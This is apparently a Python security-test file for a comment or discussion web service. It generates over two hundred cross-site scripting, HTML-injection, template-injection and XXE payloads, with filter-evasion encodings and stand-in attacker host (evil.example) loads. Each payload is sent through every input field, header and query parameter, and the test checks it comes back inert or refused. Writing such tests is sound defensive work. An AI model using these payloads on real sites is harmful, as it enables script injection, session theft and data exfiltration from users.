"""I-05: markup, scripts, styles and addresses that want to be run, in every field that comes back in some page."""
# ruff: noqa: E501 - lists for a machine, read by people once

from collections.abc import Iterator

from tests.corpus.cases import KEPT_OR_REFUSED, POST, Case, as_form, as_json, get, quoted

# What each payload would run, if it ran: a word of its own, to be found in a page.
RUN = "alert(4711)"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "iframe",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "math",
    "object data=x",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerover", "onanimationend", "onbeforetoggle")
_ADDRESSES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", "&#106;avascript:{run}", "javascript&colon;{run}",
    " javascript:{run}", "\u0001javascript:{run}", "vbscript:{run}", "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "//evil.example/x.js", "\\\\evil.example\\x", "https:evil.example", "http://a@evil.example/", "blob:https://news.example/x", "file:///etc/passwd",
    "view-source:javascript:{run}", "feed:javascript:{run}", "https://news.example/\"onclick=\"{run}", "https://news.example/'><svg onload={run}>",
    "jar:https://evil.example!/", "mailto:x?body=<svg onload={run}>", "https://[::1", "https://news.example:99999/", "https://news.example\\@evil.example",
)  # fmt: skip
_BY_HAND = (
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<scr<script>ipt>{run}</scr</script>ipt>", "<script/x>{run}</script>", "<script\n>{run}</script\n>",
    "</script><script>{run}</script>", "<script src=//evil.example></script>", "<script src=data:,{run}></script>", "<script type=module>{run}</script>",
    "<svg><script>{run}</script></svg>", "<svg><script href=data:,{run} />", "<svg><animate onbegin={run} attributeName=x>", "<svg/onload={run}>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x", "<svg><use href=data:image/svg+xml,x#x>", "<svg><foreignObject><iframe onload={run}>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>", "<math><mi//xlink:href=\"data:x,<script>{run}</script>\">",
    "<img src=x onerror={run}//", "<img src='x' onerror='{run}'", '<img src="x" onerror="{run}"', "<img src=`x` onerror={run}>", "<img/src/onerror={run}>",
    "<img \x0bsrc=x onerror={run}>", "<img src=x:x onerror\n=\n{run}>", "<img srcset=x onerror={run}>", "<image src=x onerror={run}>", "<image href=x onerror={run}>",
    "\"><img src=x onerror={run}>", "'><img src=x onerror={run}>", "--><img src=x onerror={run}>", "]]><img src=x onerror={run}>", "</textarea><svg onload={run}>",
    "</title><svg onload={run}>", "</style><svg onload={run}>", "</noscript><svg onload={run}>", "</template><svg onload={run}>", "</select><svg onload={run}>",
    "\" autofocus onfocus={run} x=\"", "' autofocus onfocus={run} x='", "x\" onmouseover=\"{run}", "x' onmouseover='{run}", "` onmouseover=`{run}",
    "\" style=\"animation-name:x\" onanimationstart=\"{run}", "\" accesskey=x onclick={run} x=\"", "\" formaction=javascript:{run} x=\"",
    "<a href=javascript:{run}>x</a>", "<a href=\"jav&#x0A;ascript:{run}\">x</a>", "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<a href=https://evil.example target=_blank>x</a>", "<a ping=https://evil.example href=x>x</a>", "<a id=x name=y href=cid:x>", "<area href=javascript:{run}>",
    "<form action=javascript:{run}><button>x", "<button formaction=javascript:{run}>x", "<form id=x></form><button form=x formaction=javascript:{run}>",
    "<input type=image src=x onerror={run}>", "<isindex action=javascript:{run}>", "<keygen autofocus onfocus={run}>", "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>", "<iframe src=javascript:{run}>", "<iframe srcdoc='<script>{run}</script>'>", "<iframe srcdoc=&lt;script&gt;{run}>",
    "<frameset onload={run}>", "<embed src=javascript:{run}>", "<object data=javascript:{run}>", "<object type=text/x-scriptlet data=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<link rel=import href=data:text/html,{run}>", "<link rel=prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;javascript:{run}'>", "<meta http-equiv=Set-Cookie content=a=b>", "<base href=//evil.example/>",
    "<style>@import '//evil.example';</style>", "<style>*{background:url(javascript:{run})}</style>", "<style>input[value^=a]{background:url(//evil.example)}</style>",
    "<div style=width:expression({run})>", "<div style=background:url(javascript:{run})>", "<div style=-moz-binding:url(//evil.example)>", "<x style=position:fixed;inset:0>",
    "<table background=javascript:{run}>", "<td background=//evil.example>", "<bgsound src=javascript:{run}>", "<layer src=//evil.example>", "<xss onpointerenter={run}>x",
    "<xml id=x><a b='c'>", "<?xml-stylesheet href=javascript:{run}?>", "<!--#exec cmd=x-->", "<!--[if IE]><script>{run}</script><![endif]-->", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<![CDATA[<script>{run}</script>]]>", "<!--><svg onload={run}>", "<!-->--><svg onload={run}>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>", "<slot name=x>", "<portal src=//evil.example>", "<dialog open onclose={run}>", "<audio autoplay onplay={run} src=x>",
    "%3Cscript%3E{run}%3C/script%3E", "%253Cscript%253E{run}", "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}", "&#x3c;script&#x3e;{run}", "&#0000060script>{run}",
    "\\u003cscript\\u003e{run}", "\\x3cscript\\x3e{run}", "\u003cscript\u003e{run}", "＜script＞{run}＜/script＞", "‹script›{run}", "<\u200bscript>{run}", "+ADw-script+AD4-{run}",
    "';{run}//", "\";{run}//", "\\';{run}//", "</script>\";{run}//", "${{{run}}}", "`${{{run}}}`", "1;{run}", "-{run}-", "'-{run}-'", "constructor.constructor('{run}')()",
    "{{{{{run}}}}}", "{{{{constructor.constructor('{run}')()}}}}", "{{% {run} %}}", "{{{{config}}}}", "{{{{7*7}}}}", "#{{{run}}}", "<%= {run} %>", "@({run})", "[[${{{run}}}]]", "*{{{run}}}",
    "[x](javascript:{run})", "![x](x\"onerror=\"{run})", "[x]: javascript:{run}", "<javascript:{run}>", "[url=javascript:{run}]x[/url]", "[img]x\" onerror=\"{run}[/img]",
    "ok <b>bold</b> <i>it</i>", "<p>paragraph</p>", "<plaintext>", "<xmp>", "<listing>", "<center>", "<font color=red>", "<br>", "<hr>", "</div></article></main></body></html>",
    "<div id=comments>", "<article id=comment-1>", "<form id=reply-form>", "<input name=email>", "<img src=https://evil.example/pixel.gif>", "<img src=x name=getElementById>",
    "hx-get=//evil.example", "<div hx-get=//evil.example hx-trigger=load>", "<div hx-on:load={run}>", "<div data-hx-get=/review/>", "\" hx-get=\"//evil.example\" hx-trigger=\"load",
)  # fmt: skip
PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(payload.replace("{{", "{").replace("}}", "}").replace("{run}", RUN) for payload in _BY_HAND),
            *(address.replace("{run}", RUN) for address in _ADDRESSES),
            *(f"<{tag} {event}={RUN}>" for tag in _TAGS for event in _EVENTS),
        )
    )
)
assert len(PAYLOADS) >= 223


def cases() -> Iterator[Case]:
    """Yield every case."""
    for number, payload in enumerate(PAYLOADS):
        hidden = (payload,)
        yield as_json(f"name {number}", KEPT_OR_REFUSED, name=payload, hidden=hidden)
        yield as_json(f"text {number}", KEPT_OR_REFUSED, text=payload, hidden=hidden)
        yield as_form(f"form {number}", KEPT_OR_REFUSED, name=payload, text=payload, parent=payload, hidden=hidden)
        yield as_json(f"key {number}", KEPT_OR_REFUSED, thread={"key": payload}, hidden=hidden)
        yield as_json(f"url {number}", KEPT_OR_REFUSED, thread={"key": "k", "url": payload}, hidden=hidden)
        yield as_json(f"site and address {number}", KEPT_OR_REFUSED, site=payload, email=payload, hidden=hidden)
        if payload.isascii() and payload.isprintable():
            headers = (("Idempotency-Key", payload), ("Origin", payload), ("Referer", payload))
            yield as_json(f"headers {number}", KEPT_OR_REFUSED, headers=headers, hidden=hidden)
        asked = f"?site={quoted(payload)}&thread={quoted(payload)}&sort={quoted(payload)}&after={quoted(payload)}"
        yield get(f"query {number}", {400, 404}, POST + asked, hidden=hidden)
